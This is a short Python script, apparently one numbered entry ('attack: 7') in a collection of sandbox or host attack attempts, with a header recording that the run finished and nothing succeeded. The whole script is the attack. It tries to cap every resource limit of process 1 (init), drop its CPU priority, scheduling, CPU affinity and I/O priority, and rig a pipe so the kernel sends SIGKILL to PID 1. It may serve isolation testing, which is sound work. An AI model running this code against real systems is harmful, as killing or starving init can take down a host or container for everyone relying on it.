# attack: 7
# does: gives process 1 a limit of processor time, of memory and of files, the lowest priority, and a signal by its files
# run: finished
# earns: 0
# prints: nothing was let
import ctypes
import fcntl
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
let = []
for kind in range(16):
    try:
        resource.prlimit(1, kind, (1, 1))
        let.append(f"limit {kind}")
    except (OSError, ValueError):
        pass
for which, who in ((0, 1), (1, 0), (1, 1), (2, 0), (2, os.getuid())):
    try:
        os.setpriority(which, who, 19)
        let.append(f"priority {which} {who}")
    except OSError:
        pass
nothing = ctypes.c_int(0)
let += ["idle"] if libc.sched_setscheduler(1, 5, ctypes.byref(nothing)) == 0 else []
let += ["affinity"] if libc.syscall(203, 1, 8, ctypes.byref(ctypes.c_ulong(1))) >= 0 else []
let += ["io"] if libc.syscall(251, 1, 1, 3 << 13) >= 0 else []
read, write = os.pipe()
fcntl.fcntl(read, fcntl.F_SETOWN, 1)
fcntl.fcntl(read, 10, 9)  # F_SETSIG: SIGKILL
fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
os.write(write, b"x")
print(let or "nothing was let")
